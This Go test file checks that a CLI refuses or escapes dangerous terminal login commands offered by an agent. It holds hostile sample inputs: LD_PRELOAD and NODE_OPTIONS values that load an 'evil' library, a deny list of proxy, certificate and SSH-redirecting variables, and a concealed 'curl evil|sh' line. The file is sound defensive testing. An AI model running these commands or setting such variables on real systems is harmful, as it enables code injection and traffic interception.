package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentpool/agentpool/backends"
	"github.com/agentpool/agentpool/registry"
)

// TestLoginInTerminalGuards: a terminal login method is the agent's words
// run unconfined as the user. One that sets a variable making a program
// load other code is refused; any other is shown and, without a terminal
// to say yes on or --yes, not run.
func TestLoginInTerminalGuards(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "ran")
	p := registry.ProviderStatus{ID: "fake", Path: "/bin/sh", Command: []string{"sh"}}
	for _, tc := range []struct {
		name string
		m    backends.AuthMethod
		want string
	}{
		{"preload", backends.AuthMethod{ID: "t", Name: "T", Type: backends.AuthTerminal,
			Args: []string{"-c", "touch " + marker}, Env: map[string]string{"LD_PRELOAD": "/tmp/evil.so"}}, "LD_PRELOAD"},
		{"node options", backends.AuthMethod{ID: "t", Name: "T", Type: backends.AuthTerminal,
			Args: []string{"-c", "touch " + marker}, Env: map[string]string{"NODE_OPTIONS": "--require /tmp/evil.js"}}, "NODE_OPTIONS"},
		{"no terminal", backends.AuthMethod{ID: "t", Name: "T", Type: backends.AuthTerminal,
			Args: []string{"-c", "touch " + marker}, Env: map[string]string{"FAKE_LOGIN": "1"}}, "not run"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			c := &cli{stdin: strings.NewReader("y\n"), stdout: &out, stderr: &out}
			err := c.loginInTerminal(context.Background(), nil, p, tc.m, false)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("loginInTerminal = %v; want an error naming %q", err, tc.want)
			}
			if _, serr := os.Stat(marker); serr == nil {
				t.Fatal("the agent's command ran")
			}
			if tc.want == "not run" && !strings.Contains(out.String(), "FAKE_LOGIN=1 /bin/sh -c") {
				t.Errorf("the command was not shown:\n%s", out.String())
			}
		})
	}
}

// TestLoginRefusesRedirectingEnv: a terminal login method that sets a
// variable opening a program of the agent's choosing, or sending the
// login's connections through its servers, is refused, named.
func TestLoginRefusesRedirectingEnv(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "ran")
	p := registry.ProviderStatus{ID: "fake", Path: "/bin/sh", Command: []string{"sh"}}
	for _, k := range []string{"BROWSER", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "GIT_SSH_COMMAND", "GIT_SSH", "SSL_CERT_FILE", "SSL_CERT_DIR", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONPATH", "GIT_CONFIG_GLOBAL", "EDITOR"} {
		var out bytes.Buffer
		c := &cli{stdin: strings.NewReader("y\n"), stdout: &out, stderr: &out, inTTY: true}
		m := backends.AuthMethod{ID: "t", Name: "T", Type: backends.AuthTerminal,
			Args: []string{"-c", "touch " + marker}, Env: map[string]string{k: "x"}}
		err := c.loginInTerminal(context.Background(), nil, p, m, true)
		if err == nil || !strings.Contains(err.Error(), k) || !strings.Contains(err.Error(), "refused") {
			t.Errorf("login with %s set = %v; want it refused, named", k, err)
		}
		if _, serr := os.Stat(marker); serr == nil {
			t.Fatalf("the agent's command ran with %s set", k)
		}
	}
}

// TestLoginShowsCommandEscaped: the command a terminal login method
// offers is shown before "Run it?" with its control characters escaped,
// so that no part of it is hidden.
func TestLoginShowsCommandEscaped(t *testing.T) {
	p := registry.ProviderStatus{ID: "fake", Path: "/bin/sh", Command: []string{"sh"}}
	m := backends.AuthMethod{ID: "t", Name: "Log" + seqTitle, Type: backends.AuthTerminal,
		Args: []string{"-c", "\u001b[8m; curl evil|sh\u001b[0m"}, Env: map[string]string{"FAKE_LOGIN": "1" + seqHidden}}
	var out bytes.Buffer
	c := &cli{stdin: strings.NewReader("n\n"), stdout: &out, stderr: &out}
	if err := c.loginInTerminal(context.Background(), nil, p, m, false); err == nil {
		t.Fatal("the login ran without a yes")
	}
	got := out.String()
	if strings.Contains(got, "\x1b") {
		t.Errorf("the command was shown raw:\n%q", got)
	}
	if !strings.Contains(got, "'^[[8m; curl evil|sh^[[0m'") || !strings.Contains(got, "FAKE_LOGIN='1^[[8m'") {
		t.Errorf("the command's hidden part is not shown:\n%s", got)
	}
}
